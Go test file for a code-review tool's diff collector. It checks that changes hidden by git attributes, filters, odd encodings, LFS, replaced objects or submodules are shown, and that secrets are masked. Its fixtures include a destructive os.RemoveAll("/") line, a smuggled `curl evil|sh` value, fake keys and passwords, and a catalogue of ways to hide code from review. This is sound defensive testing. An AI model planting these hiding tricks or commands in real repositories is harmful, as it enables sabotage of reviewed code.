package changes_test

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"roundtable/debate"
	"roundtable/debate/verdict"
	"roundtable/internal/changes"
	"roundtable/internal/testing/must"
)

// TestMain gives git a home without settings.
func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "home")
	if err == nil {
		err = errors.Join(os.Setenv("HOME", dir), os.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, ".config")))
	}
	if err != nil {
		panic(err)
	}
	code := m.Run()
	_ = os.RemoveAll(dir)
	os.Exit(code)
}

// evil is a line that has to be seen, or to block.
const evil = `os.RemoveAll("/")`

// ran is a file that programs of a repository write.
const ran = ".git/ran"

// place is a git repository with a branch main, and what can be done to it.
type place struct {
	t   *testing.T
	dir string
}

// newPlace returns a repository with one commit on main, and the branch change checked out.
func newPlace(t *testing.T) place {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	p := place{t, t.TempDir()}
	p.git("init", "-q", "-b", "main")
	p.write("README", "read me\n")
	p.commit()
	p.git("checkout", "-q", "-b", "change")
	return p
}

// git runs git as the author of the change does, with all that is configured.
func (p place) git(args ...string) string {
	p.t.Helper()
	cmd := exec.Command("git", append([]string{
		"-c", "user.name=T", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false",
		"-c", "protocol.file.allow=always",
	}, args...)...)
	cmd.Dir, cmd.Env = p.dir, append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil && args[0] != "diff" && args[0] != "merge" { // which fails with conflicts
		p.t.Fatalf("git %v: %v: %s", args, err, stderr.String())
	}
	return string(out)
}

// set configures the repository by names and values.
func (p place) set(pairs ...string) {
	p.t.Helper()
	for pair := range slices.Chunk(pairs, 2) {
		p.git("config", pair[0], pair[1])
	}
}

func (p place) write(name, content string) {
	p.t.Helper()
	full := filepath.Join(p.dir, filepath.FromSlash(name))
	must.Do(p.t, os.MkdirAll(filepath.Dir(full), 0o755))
	must.Do(p.t, os.WriteFile(full, []byte(content), 0o644))
}

func (p place) remove(name string) {
	p.t.Helper()
	must.Do(p.t, os.RemoveAll(filepath.Join(p.dir, name)))
}

func (p place) link(target, name string) {
	p.t.Helper()
	if err := os.Symlink(target, filepath.Join(p.dir, name)); err != nil {
		p.t.Skipf("no links here: %v", err)
	}
}

// commit commits all that there is.
func (p place) commit() {
	p.t.Helper()
	p.git("add", "-A", "-f")
	p.git("commit", "-q", "--allow-empty", "-m", "a commit")
}

// onMain commits to main what do does, and goes back to the branch of the change.
func (p place) onMain(do func()) {
	p.t.Helper()
	p.git("checkout", "-q", "main")
	do()
	p.commit()
	p.git("checkout", "-q", "-B", "change")
}

func (p place) since(o changes.Options) (changes.Changes, error) {
	p.t.Helper()
	if o.Base == "" {
		o.Base = "main"
	}
	return changes.Since(p.t.Context(), p.dir, o)
}

// read is what a diff comes to.
type read struct {
	lines  []string // with their signs, "PATH: +TEXT", of what changed and of what is said about a file
	blocks []string // paths of which something was shown to no seat
}

func readDiff(c changes.Changes) (r read) {
	parsed, text := debate.ParseDiff(c.Diff), strings.Split(c.Diff, "\n")
	for i, l := range parsed {
		if l.Changes() || l.Op == debate.DiffLeft {
			r.lines = append(r.lines, l.Path()+": "+text[i])
		}
		if l.Op == debate.DiffUnshown {
			r.blocks = append(r.blocks, l.File)
		}
	}
	return r
}

// checkLines compares every line that a diff shows with the file that has it.
func (p place) checkLines(c changes.Changes, committed bool) {
	p.t.Helper()
	parsed, text := debate.ParseDiff(c.Diff), strings.Split(c.Diff, "\n")
	files := map[string][]string{}
	for i, l := range parsed {
		if l.Line == 0 || l.Op != debate.DiffAdded && l.Op != debate.DiffContext && l.Op != debate.DiffRemoved {
			continue
		}
		key := l.Path()
		if l.Op == debate.DiffRemoved {
			key = "old:" + key
		}
		lines, ok := files[key]
		if !ok {
			whole := string(p.stored(l.Path(), l.Op == debate.DiffRemoved, committed))
			lines = strings.Split(strings.NewReplacer("\r\n", "\n", "\x00", "␀").Replace(whole), "\n")
			files[key] = lines
		}
		if l.Line > len(lines) || lines[l.Line-1] != text[i][1:] {
			p.t.Errorf("%s:%d is not %q in %q", key, l.Line, text[i], lines)
			return
		}
	}
}

// stored returns a file as it was before the change, is committed, or is in the working tree.
func (p place) stored(path string, old, committed bool) []byte {
	p.t.Helper()
	switch {
	case old:
		return []byte(p.git("--no-replace-objects", "cat-file", "blob", "main:"+path))
	case committed:
		return []byte(p.git("--no-replace-objects", "cat-file", "blob", "HEAD:"+path))
	}
	full := filepath.Join(p.dir, filepath.FromSlash(path))
	if target, err := os.Readlink(full); err == nil {
		return []byte(target)
	}
	return must.Get(os.ReadFile(full))(p.t)
}

// code is a file of so many lines, the last of which is evil if that is asked for.
func code(lines int, last string) string {
	var b strings.Builder
	for i := range lines {
		fmt.Fprintf(&b, "line %d of a file\n", i+1)
	}
	if last != "" {
		b.WriteString(last + "\n")
	}
	return b.String()
}

// hidden is a change that git shows otherwise than it is.
type hidden struct {
	name      string
	make      func(p place)
	committed bool
	options   changes.Options
	lines     []string // that are shown
	absent    []string // parts that no line has
	blocks    []string
	notes     []string // parts of what is said
	gitHides  bool     // `git diff main` does not show the evil line
	odd       bool     // the lines are not compared with the files
}

func TestSince_showsWhatChanged(t *testing.T) {
	for _, c := range slices.Concat(attributes(), stored(), names(), oddPaths(), secrets()) {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t)
			c.make(p)
			c.options.Committed = c.committed
			of := []string{"diff", "main"}
			if c.committed {
				of = append(of, "HEAD")
			}
			if got := p.git(of...); c.gitHides && strings.Contains(got, evil) {
				t.Errorf("git shows it by itself: %s", got)
			}
			before := p.git("status", "--porcelain=v2") + p.git("count-objects", "-v")
			p.remove(ran)
			got := must.Get(p.since(c.options))(t)
			if _, err := os.Lstat(filepath.Join(p.dir, ran)); err == nil {
				t.Error("a program of the repository was run")
			}
			if after := p.git("status", "--porcelain=v2") + p.git("count-objects", "-v"); before != after {
				t.Errorf("the repository was changed: %s, then %s", before, after)
			}
			r := readDiff(got)
			for _, want := range c.lines {
				if !strings.Contains("\n"+strings.Join(r.lines, "\n")+"\n", "\n"+want+"\n") {
					t.Errorf("%q is not shown", want)
				}
			}
			for _, not := range c.absent {
				if strings.Contains(got.Diff, not) {
					t.Errorf("%q is shown", not)
				}
			}
			if strings.Join(r.blocks, ", ") != strings.Join(c.blocks, ", ") {
				t.Errorf("%q block, want %q", r.blocks, c.blocks)
			}
			brought := []debate.Evidence{debate.NewEvidence("x.diff", debate.EvidenceDiff, got.Diff, "")}
			said := append(got.Notes, verdict.EvidenceSentences(debate.Session{Evidence: brought})...)
			for _, want := range c.notes {
				if !strings.Contains(strings.ReplaceAll(strings.Join(said, "\n"), "shown to no seat: ", ""), want) {
					t.Errorf("%q is not said: %q", want, said)
				}
			}
			if len(c.notes) == 0 && len(said) > 0 {
				t.Errorf("said: %q", said)
			}
			if !c.odd {
				p.checkLines(got, c.committed)
			}
			if t.Failed() {
				t.Log(got.Diff[:min(len(got.Diff), 4000)])
			}
		})
	}
}

type files map[string]string // by their names

// hide makes a repository in which main.go changes, beside other files and settings of git that may hide it.
func hide(others files, set ...string) func(p place) {
	return func(p place) {
		p.onMain(func() { p.write("main.go", code(9, "")) })
		for name, content := range others {
			p.write(name, content)
		}
		p.set(set...)
		p.write("main.go", code(9, evil))
	}
}

func attributes() []hidden {
	shown := []string{"main.go: +" + evil}
	return []hidden{
		{
			name: "binary by the change", make: then(hide(files{".gitattributes": "*.go binary\n"}), place.commit), committed: true,
			lines: shown, gitHides: true,
		},
		{name: "attributes that are not committed", make: hide(files{".gitattributes": "* -diff\n"}), lines: shown, gitHides: true},
		{
			name: "attributes of the clone", make: then(hide(files{".git/info/attributes": "*.go -diff\n"}), place.commit), committed: true,
			lines: shown, gitHides: true,
		},
		{
			name: "a driver with a program", make: hide(files{".gitattributes": "*.go diff=quiet\n"},
				"diff.quiet.textconv", "touch "+ran+"; echo", "diff.quiet.command", "touch "+ran+"; true"),
			lines: shown, gitHides: true,
		},
		{
			name: "a filter that cleans", make: hide(files{".gitattributes": "*.go filter=tidy\n"},
				"filter.tidy.clean", "touch "+ran+"; sed /RemoveAll/d"),
			blocks: []string{"main.go"}, absent: []string{evil}, notes: []string{"filter tidy"}, gitHides: true,
		},
		{
			name: "a filter that is required and missing",
			make: hide(files{".git/info/attributes": "*.go filter=gone\n", "other.txt": evil + "\n"},
				"filter.gone.clean", "no-such-program", "filter.gone.required", "true"),
			lines: []string{"other.txt: +" + evil}, blocks: []string{"main.go"}, notes: []string{"filter gone"},
		},
		{
			name: "a filter that nobody configured", make: hide(files{".gitattributes": "*.go filter=nothing\n", "more.go": evil + "\n"}),
			lines: append(shown, "more.go: +"+evil),
		},
		{
			name: "an order file and prefixes of git", make: then(hide(nil), place.commit, func(p place) {
				p.set("diff.noprefix", "", "diff.mnemonicPrefix", "", "diff.ignoreSubmodules", "all", "diff.external", "true",
					"color.ui", "always", "diff.orderFile", "/nowhere/order")
			}), committed: true, lines: shown,
		},
		{name: "told to assume it unchanged", make: func(p place) {
			p.onMain(func() { p.write("main.go", code(9, "")) })
			p.git("update-index", "--assume-unchanged", "main.go")
			p.write("main.go", code(9, evil))
		}, lines: shown, gitHides: true},
		{name: "a replaced object", make: func(p place) {
			hide(nil)(p)
			p.commit()
			p.git("replace", strings.TrimSpace(p.git("rev-parse", "HEAD:main.go")), strings.TrimSpace(p.git("rev-parse", "main:main.go")))
			p.git("checkout", "-q", "-f", "HEAD")
		}, committed: true, lines: shown, gitHides: true},
	}
}

// wide returns a text in UTF-16 with a byte order mark.
func wide(s string) string {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return string(out)
}

// pointer returns the pointer of Git LFS to a content.
func pointer(content string) string {
	sum := sha256.Sum256([]byte(content))
	return fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%x\nsize %d\n", sum, len(content))
}

const (
	png  = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
	crlf = "one\r\ntwo\r\nthree\r\n"
)

// lfs makes a repository with the filter of Git LFS, in which big.dat is a pointer and the
// working tree has what it points to.
func lfs(p place, content string) {
	p.onMain(func() {
		p.write(".gitattributes", "*.dat filter=lfs diff=lfs merge=lfs -text\n")
		p.write("big.dat", pointer(content))
	})
	p.set("filter.lfs.clean", "touch "+ran+"; cat", "filter.lfs.process", "touch "+ran+"; exit 1", "filter.lfs.required", "true")
	p.write("big.dat", content)
}

// crypt makes a repository with a filter that encrypts, in which the working tree has key.txt as
// a person reads it if it is unlocked.
func crypt(p place, unlocked bool) {
	p.onMain(func() { p.write(".gitattributes", "key.txt filter=crypt diff=crypt\n") })
	p.set("filter.crypt.clean", "touch "+ran+"; tr a-z b-za", "filter.crypt.smudge", "touch "+ran+"; tr b-za a-z",
		"filter.crypt.required", "true", "diff.crypt.textconv", "touch "+ran+"; cat")
	p.write("key.txt", "a very secret word\n")
	p.commit()
	p.git("checkout", "-q", "main")
	p.git("merge", "-q", "change")
	p.git("checkout", "-q", "change")
	if !unlocked {
		p.git("config", "--remove-section", "filter.crypt")
		p.remove("key.txt")
		p.git("checkout", "-q", "--", "key.txt")
	}
}

func (p place) touch(name string) {
	p.t.Helper()
	now := time.Now().Add(time.Hour)
	must.Do(p.t, os.Chtimes(filepath.Join(p.dir, name), now, now))
}

// checkedOut commits content to main without conversions, and checks it out with a setting.
func checkedOut(name, content, attributes string, set ...string) func(p place) {
	return func(p place) {
		p.onMain(func() {
			p.git("config", "core.autocrlf", "false")
			p.write(name, content)
			p.commit()
			if attributes != "" {
				p.write(".gitattributes", attributes)
			}
		})
		p.set(set...)
		p.remove(name)
		p.git("checkout", "-q", "--", name)
		p.touch(name)
	}
}

// then does one thing after another.
func then(all ...func(p place)) func(p place) {
	return func(p place) {
		for _, do := range all {
			do(p)
		}
	}
}

// appends adds to a file of the working tree.
func appends(name, more string) func(p place) {
	return func(p place) {
		raw := must.Get(os.ReadFile(filepath.Join(p.dir, name)))(p.t)
		p.write(name, string(raw)+more)
	}
}

func written(name, content string) func(p place) { return func(p place) { p.write(name, content) } }

func stored() []hidden {
	lf := strings.ReplaceAll(crlf, "\r", "")
	return []hidden{
		{name: "CRLF, touched", make: checkedOut("a.txt", lf, "", "core.autocrlf", "true")},
		{
			name: "CRLF, one line more", make: then(checkedOut("a.txt", lf, "", "core.autocrlf", "true"), appends("a.txt", evil+"\r\n")),
			lines: []string{"a.txt: +" + evil},
		},
		{
			name: "CRLF in the index stays", make: then(checkedOut("a.txt", crlf, "", "core.autocrlf", "true"), appends("a.txt", evil+"\r\n")),
			lines: []string{"a.txt: +" + evil}, absent: []string{"-one"},
		},
		{
			name: "line ends that differ are seen", make: then(checkedOut("a.txt", lf, ""), written("a.txt", "one\r\ntwo\nthree\n")),
			lines: []string{"a.txt: -one", "a.txt: +one␍"}, odd: true,
		},
		{
			name: "a carriage return ends no line", make: written("a.sh", "ls # \r"+evil+"\n"), odd: true,
			lines: []string{"a.sh: +ls # ␍" + evil},
		},
		{
			name: "an encoding of the working tree", lines: []string{"a.txt: +" + evil}, absent: []string{"-one"}, odd: true,
			make: func(p place) {
				p.onMain(func() {
					p.write(".gitattributes", "a.txt text working-tree-encoding=UTF-16\n")
					p.write("a.txt", wide(lf))
				})
				p.write("a.txt", wide(lf+evil+"\n"))
			},
		},
		{
			name: "an encoding that there is not", make: func(p place) {
				for _, name := range []string{"a.txt", "b.odd", "c.odd", "d.txt"} {
					p.write(name, evil+"\n")
				}
				p.write(".gitattributes", "*.odd working-tree-encoding=nonsense\n")
			},
			lines: []string{"a.txt: +" + evil, "d.txt: +" + evil}, blocks: []string{"b.odd", "c.odd"}, notes: []string{"b.odd: git cannot read it", "c.odd"},
		},
		{name: "idents", make: then(func(p place) {
			p.onMain(func() {
				p.write(".gitattributes", "*.c ident\n")
				p.write("a.c", "/* $Id$ */\nint a;\n")
			})
			p.remove("a.c")
			p.git("checkout", "-q", "--", "a.c")
		}, appends("a.c", evil+"\n")), lines: []string{"a.c: +" + evil}, absent: []string{"-/*"}, odd: true},
		{
			name: "UTF-16", make: then(written("a.ps1", wide(evil+"\n")), place.commit), committed: true, odd: true,
			lines: []string{"a.ps1: +" + evil}, gitHides: true,
		},
		{
			name: "UTF-32", make: written("a.ps1", wide("\x00"+strings.Join(strings.Split(evil+"\n", ""), "\x00")+"\x00")), odd: true,
			blocks: []string{"a.ps1"}, notes: []string{"a.ps1: binary"}, gitHides: true,
		},
		{name: "Latin-1", make: then(written("a.c", "/* caf\xe9 */\n"+evil+"\n"), place.commit), lines: []string{"a.c: +/* café */", "a.c: +" + evil}, odd: true},
		{
			name: "a NUL", make: then(written("a.php", code(40, "\x00"+evil)), place.commit), committed: true,
			lines: []string{"a.php: +␀" + evil}, gitHides: true,
		},
		{
			name: "binary", make: then(written("tool", strings.Repeat("\x00\x01\x02\x03", 30)+evil), place.commit), committed: true,
			blocks: []string{"tool"}, notes: []string{"tool: binary, 0 B before, 1"}, gitHides: true,
		},
		{
			name: "binary, under another name", make: then(func(p place) {
				p.onMain(func() { p.write("tool", strings.Repeat("\x00\x01\x02\x03", 30)) })
				p.git("mv", "tool", "tool2")
			}, place.commit), committed: true, absent: []string{"binary"},
		},
		{
			name: "text that became binary", make: then(func(p place) {
				p.onMain(func() { p.write("data.txt", evil+"\n") })
				p.write("data.txt", strings.Repeat("\x00\x01\x02\x03", 30))
			}, place.commit), committed: true, blocks: []string{"data.txt"}, notes: []string{"data.txt: binary"}, absent: []string{"-" + evil},
		},
		{name: "an image", make: then(written("a.png", png), place.commit), notes: []string{"a.png (image/png"}},
		{
			name: "an image by its name alone", make: then(written("a.png", "\x7fELF\x00\x00\x00\x01"+evil), place.commit),
			blocks: []string{"a.png"}, notes: []string{"a.png: binary"}, gitHides: true,
		},
		{name: "code by the name of an image", make: then(written("a.bmp", "BM\n"+evil+"\n"), place.commit), lines: []string{"a.bmp: +" + evil}},
		{name: "Git LFS, touched", make: func(p place) { lfs(p, code(50, evil)); p.touch("big.dat") }},
		{
			name: "Git LFS, committed", make: func(p place) {
				lfs(p, code(50, ""))
				p.git("config", "--remove-section", "filter.lfs")
				p.write("big.dat", pointer(code(50, evil)))
				p.commit()
			},
			committed: true, blocks: []string{"big.dat"}, notes: []string{"big.dat: a pointer to a file in Git LFS"},
		},
		{
			name: "text that begins like a pointer, and one that has it within",
			make: then(written("a.sh", "version https://git-lfs.github.com/spec/v1\n# caf\xe9\n"+evil+"\n"),
				written("b.sh", evil+"\nversion https://git-lfs.github.com/spec/v1\noid sha256:0\n"), place.commit),
			committed: true, lines: []string{"a.sh: +" + evil, "b.sh: +" + evil}, odd: true,
		},
		{
			name: "Git LFS for code that is in no pointer", make: func(p place) {
				lfs(p, code(50, ""))
				p.git("config", "--remove-section", "filter.lfs")
				p.write("main.go", evil+"\n")
				p.write(".gitattributes", "* filter=lfs diff=lfs\n")
				p.commit()
			},
			committed: true, lines: []string{"main.go: +" + evil}, blocks: []string{"big.dat"}, notes: []string{"big.dat"},
		},
		{name: "encrypted and locked", make: func(p place) { crypt(p, false); p.touch("key.txt") }},
		{
			name: "encrypted, unlocked and changed", make: func(p place) { crypt(p, true); p.touch("key.txt"); p.write("key.txt", "another word\n") },
			blocks: []string{"key.txt"}, notes: []string{"key.txt: its uncommitted form"}, absent: []string{"another word"},
		},
	}
}

func names() []hidden {
	shown := func(name string) []string { return []string{name + ": +" + evil} }
	return []hidden{
		{
			name: "names of what programs write", make: func(p place) {
				for _, name := range []string{"a.min.js", "a.map", "a.pb.go", "a_pb2.py", "a.snap"} {
					p.write(name, "// Code generated by x. DO NOT EDIT.\n"+evil+"\n")
				}
			},
			lines: []string{"a.min.js: +" + evil, "a.map: +" + evil, "a.pb.go: +" + evil, "a_pb2.py: +" + evil, "a.snap: +" + evil},
		},
		{
			name: "left out by the reviewer", options: changes.Options{Exclude: []string{"*.snap", "gen"}},
			make: func(p place) {
				p.write("a.snap", evil+"\n")
				p.write("gen/a.go", evil+"\n")
				p.write("a.go", evil+"\n")
			},
			lines: append(shown("a.go"), "a.snap: not counted: left out by the pattern of the review"), notes: []string{"a.snap (left out", "gen/a.go (left out"},
		},
		{
			name: "modes, links and renames", make: func(p place) {
				p.onMain(func() {
					p.write("old.go", code(20, ""))
					p.write("run.sh", "ls\n")
					p.write("was.txt", "a file\n")
				})
				p.git("mv", "old.go", "new.go")
				p.write("new.go", code(20, evil))
				p.link("/etc/passwd", "l")
				p.remove("was.txt")
				p.link("run.sh", "was.txt")
				must.Do(p.t, os.Chmod(filepath.Join(p.dir, "run.sh"), 0o755))
				p.write("empty", "")
			},
			lines: []string{
				"new.go: rename from old.go", "new.go: +" + evil, "run.sh: old mode 100644", "run.sh: new mode 100755", "l: new file mode 120000",
				"l: +/etc/passwd", "was.txt: -a file", "was.txt: +run.sh", "empty: new file mode 100644",
			},
		},
		{name: "a file that a folder replaces", make: func(p place) {
			p.onMain(func() { p.write("a", "a file\n") })
			p.remove("a")
			p.write("a/b", evil+"\n")
		}, lines: append(shown("a/b"), "a: -a file")},
		{name: "a name with line breaks, quotation marks and blanks", make: func(p place) {
			p.write("a \"b\"\n+++ b/c b/d.go", evil+"\n")
			p.write("b/x b/x.go", evil+"\n")
			p.write("caf\xe9.go", evil+"\n")
		}, lines: []string{"b/x b/x.go: +" + evil, "a \"b\"\n+++ b/c b/d.go: +" + evil, "caf\xe9.go: +" + evil}},
	}
}

func oddPaths() []hidden {
	other := func(p place) {
		p.write("z.go", evil+"\n")
	}
	shown := []string{"z.go: +" + evil}
	return []hidden{
		{name: "a link to a folder, and one to nothing", make: then(func(p place) {
			p.link(p.t.TempDir(), "folder")
			p.link("/nowhere", "nothing")
		}, other), lines: append(shown, "nothing: +/nowhere")},
		{name: "a folder that became a link", make: then(func(p place) {
			p.onMain(func() { p.write("d/a.go", "package d\n") })
			p.remove("d")
			p.link("..", "d")
		}, other), lines: append(shown, "d/a.go: -package d", "d: +..")},
		{
			name: "a repository within", make: then(func(p place) {
				p.write("within/evil.go", evil+"\n")
				place{p.t, filepath.Join(p.dir, "within")}.begin()
				p.write("empty/evil.go", evil+"\n")
				place{p.t, filepath.Join(p.dir, "empty")}.git("init", "-q")
			}, other), lines: shown, blocks: []string{"empty", "within"}, notes: []string{"within: the files of a git repository", "empty: the files of a git repository"}, odd: true,
		},
		{
			name: "a submodule that is to be ignored", make: func(p place) {
				p.onMain(func() { p.submodule() })
				sub := place{p.t, filepath.Join(p.dir, "sub")}
				sub.write("evil.go", evil+"\n")
				sub.commit()
				p.git("config", "-f", ".gitmodules", "submodule.sub.ignore", "all")
				p.commit()
				p.git("config", "submodule.sub.ignore", "all")
				p.git("add", "-f", "sub")
				sub.write("more.go", evil+"\n")
			},
			lines: []string{".gitmodules: +\tignore = all"}, blocks: []string{"sub", "sub"},
			notes: []string{"sub: changes that are not committed in the submodule", "sub: what changed within the submodule"},
			odd:   true, gitHides: true,
		},
		{
			name: "a submodule that moved", make: func(p place) {
				p.onMain(func() { p.submodule() })
				sub := place{p.t, filepath.Join(p.dir, "sub")}
				sub.write("evil.go", evil+"\n")
				sub.commit()
				p.git("add", "-f", "sub")
				p.commit()
			}, lines: []string{"sub: shown to no seat: what changed within the submodule"}, blocks: []string{"sub"}, odd: true,
			notes: []string{"sub: what changed within the submodule"},
		},
		{name: "3 MB that are new", make: then(written("big.txt", code(150_000, evil)), other), lines: shown, blocks: []string{"big.txt"}, notes: []string{"big.txt: 3"}},
		{name: "1,000 new files", make: func(p place) {
			for i := range 1000 {
				p.write(fmt.Sprintf("many/%04d.go", i), fmt.Sprintf("package p%d\n", i))
			}
			other(p)
		}, lines: append(shown, "many/0000.go: +package p0", "many/0999.go: +package p999")},
		{name: "a warning of git", make: then(func(p place) {
			p.write(".git/info/attributes", "[attr]x y\n/a/!b -z=\n\\ -text\n!neg text\n")
		}, other), lines: shown, notes: []string{"git says: "}},
		{name: "a conflict", make: func(p place) {
			p.onMain(func() { p.write("a.go", "package a\n") })
			p.write("a.go", "package b\n")
			p.commit()
			p.git("checkout", "-q", "-b", "third", "main")
			p.write("a.go", "package c\n")
			p.commit()
			p.git("merge", "-q", "change")
			p.write("a.go", "package c\n"+evil+"\n")
		}, lines: []string{"a.go: +" + evil}},
	}
}

// begin makes a repository of a folder with its files.
func (p place) begin() {
	p.git("init", "-q", "-b", "main")
	p.commit()
}

// submodule adds a repository as sub.
func (p place) submodule() {
	from := place{p.t, p.t.TempDir()}
	from.write("a.go", "package a\n")
	from.begin()
	p.git("submodule", "--quiet", "add", from.dir, "sub")
}

// key is a private key as a file has it.
var key = "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEow1BAAKCAQEAy8Dbv8prpJ+0kKhlGeJYozo2t60EG8L0561g13R29LvMR5hy\n", 8) +
	"x9K3Ab==\n-----END RSA PRIVATE KEY-----\n"

func secrets() []hidden {
	const token = "ghp_" + "abcdef0123456789abcdef0123456789"
	const env = "DB_PASSWORD=Tr0ub4dor3xZ\nGREETING=hello\n"
	return []hidden{
		{
			name: "code by the names of secrets", make: func(p place) {
				for _, name := range []string{".env.js", "gcloud/x.go", ".aws/deploy.sh", "secrets.yaml", "credentials.json", "id_rsa", "a.pem", ".envrc", "a.key"} {
					p.write(name, "x: {\n"+evil+"\n")
				}
			},
			lines: []string{
				".env.js: +" + evil, "gcloud/x.go: +" + evil, ".aws/deploy.sh: +" + evil, "secrets.yaml: +" + evil, "credentials.json: +" + evil,
				"id_rsa: +" + evil, "a.pem: +" + evil, ".envrc: +" + evil, "a.key: +" + evil,
			},
		},
		{
			name: "a key on the line of the code", make: written("a.go", `token := "`+token+`"; `+evil+"\n"),
			lines: []string{`a.go: +token := "[masked 36 characters]"; ` + evil}, absent: []string{token},
			notes: []string{"a.go: values that look like secrets are masked in 1 line"}, odd: true,
		},
		{
			name: "code that looks like a value", make: func(p place) {
				p.write("a.py", "x = \"://:\";import(\"os\");\"@\"\n")
				p.write("b.sh", "password=\"a1$(curl${IFS}evil|sh)\"\n")
			},
			lines: []string{"b.sh: +password=\"[masked 22 characters, shown to no seat]\""}, notes: []string{"a.py", "b.sh"}, odd: true,
		},
		{
			name: "code below the beginning of a key", make: written("a.py", "# -----BEGIN PRIVATE KEY-----\nimport os\n"+evil+"\n"),
			lines: []string{"a.py: +import os", "a.py: +" + evil}, notes: []string{"a.py: values"}, odd: true,
		},
		{
			name: "a part of a key", make: func(p place) {
				p.onMain(func() { p.write("a.yml", "first: 1\nkey: |\n  "+strings.ReplaceAll(key, "\n", "\n  ")+"\n") })
				changed := strings.Replace(key, "MIIEow1BAAKCAQEAy8Dbv8prpJ+0kKhlGeJYozo2t60EG8L0561g13R29LvMR5hy\nx9K", "MIIEow1BAAKCAQEAy8Dbv8prpJ+0kKhlGeJYozo2t60EG8L0561g13R29LvMR5hz\nx9K", 1)
				p.write("a.yml", "first: 1\nkey: |\n  "+strings.ReplaceAll(changed, "\n", "\n  ")+"\n")
			},
			absent: []string{"MIIE", "x9K3"}, notes: []string{"a.yml: values that look like secrets are masked in"}, odd: true,
		},
		{
			name: "a key that loses its first line", make: func(p place) {
				p.onMain(func() { p.write("a.yml", "first: 1\n"+key) })
				_, body, _ := strings.Cut(key, "\n")
				p.write("a.yml", "first: 1\nsecond: 2\n"+body)
			},
			lines: []string{"a.yml: -[masked 31 characters]", "a.yml: +second: 2"}, absent: []string{"MIIE"},
			notes: []string{"a.yml: values that look like secrets are masked in"}, odd: true,
		},
		{
			name: "a tracked file of passwords", make: func(p place) {
				p.onMain(func() { p.write(".env", env) })
				p.write(".env", env+"API_TOKEN=Tr0ub4dor4yZ\n")
				p.write("a.go", evil+"\n")
			},
			lines: []string{"a.go: +" + evil}, blocks: []string{".env"}, absent: []string{"Tr0ub", "GREETING"},
			notes: []string{".env: a file of keys or passwords; --include .env shows it"}, odd: true,
		},
		{
			name: "one that is let in", make: written("conf/.env", env), options: changes.Options{Include: []string{"./conf/.env", "nofile"}},
			lines: []string{"conf/.env: +DB_PASSWORD=[masked 12 characters]", "conf/.env: +GREETING=hello"}, absent: []string{"Tr0ub"},
			notes: []string{"conf/.env: values", "--include nofile names no file of the change."}, odd: true,
		},
		{
			name: "key files by their content", make: func(p place) {
				p.onMain(func() { p.write("a.env", env) })
				p.write("id_rsa", key)
				p.write("age.key", "AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ\n")
				p.write("terraform.tfstate", "{\n  \"version\": 4,\n  \"terraform_version\": \"1.9.0\"\n}\n")
				p.git("mv", "a.env", "a.txt")
			},
			blocks: []string{"a.txt", "age.key", "id_rsa", "terraform.tfstate"}, absent: []string{"MIIE", "AGE-", "4,"},
			notes: []string{"id_rsa", "age.key", "terraform.tfstate", "a.txt"}, odd: true,
		},
	}
}

func TestSince_refusesMoreFilesThanHaveRoom(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	long := strings.Repeat(strings.Repeat("d", 250)+"/", 10)
	for i := range 500 {
		p.write(fmt.Sprint(long, i), "x\n")
	}
	if _, err := p.since(changes.Options{}); err == nil || !strings.HasPrefix(err.Error(), "500 files have changed, more than") {
		t.Errorf("got %v", err)
	}
}

// A linked working tree has an index and a HEAD of its own, and is reviewed from any folder in it.
func TestSince_inALinkedWorkingTree(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.write("not-there.go", evil+"\n")
	tree := place{t, filepath.Join(t.TempDir(), "tree")}
	p.git("worktree", "add", "-q", tree.dir, "main")
	tree.write("in/z.go", evil+"\n")
	got, err := changes.Since(t.Context(), filepath.Join(tree.dir, "in"), changes.Options{Base: "change"})
	if err != nil || strings.Join(readDiff(got).lines, "\n") != "in/z.go: new file mode 100644\nin/z.go: +"+evil || got.Root != tree.dir {
		t.Errorf("%v, %+v", err, got)
	}
}

func TestSince_ofAPartialCloneFetchesNothing(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	p.write("a.go", evil+"\n")
	p.commit()
	p.git("config", "uploadpack.allowFilter", "true")
	clone := place{t, filepath.Join(t.TempDir(), "clone")}
	p.git("clone", "-q", "--filter=blob:none", "--no-checkout", "file://"+p.dir, clone.dir)
	clone.git("config", "protocol.file.allow", "always")
	clone.git("read-tree", "HEAD")
	before := clone.git("count-objects", "-v")
	base := strings.TrimSpace(clone.git("rev-parse", "--short", "origin/main"))
	_, err := changes.Since(t.Context(), clone.dir, changes.Options{Base: "origin/main", Committed: true})
	if err == nil || !strings.Contains(err.Error(), "`git diff "+base+" HEAD >/dev/null` fetches them") {
		t.Fatalf("a partial clone: %v", err)
	}
	if after := clone.git("count-objects", "-v"); after != before {
		t.Errorf("something was fetched: %s", after)
	}
	clone.git("diff", base, "HEAD")
	got, err := changes.Since(t.Context(), clone.dir, changes.Options{Base: "origin/main", Committed: true})
	if err != nil || !strings.Contains(got.Diff, "+"+evil) {
		t.Errorf("after it was fetched: %v, %s", err, got.Diff)
	}
}

// The times of a copied checkout are those of its index: nothing has changed in it. A change that
// has the size and the time of what it replaces is found where git finds it.
func TestSince_readsTheTimesOfTheIndexAsGitDoes(t *testing.T) {
	p := newPlace(t)
	crypt(p, true)
	p.set("core.trustctime", "false", "core.checkStat", "minimal") // only the clock sets that time
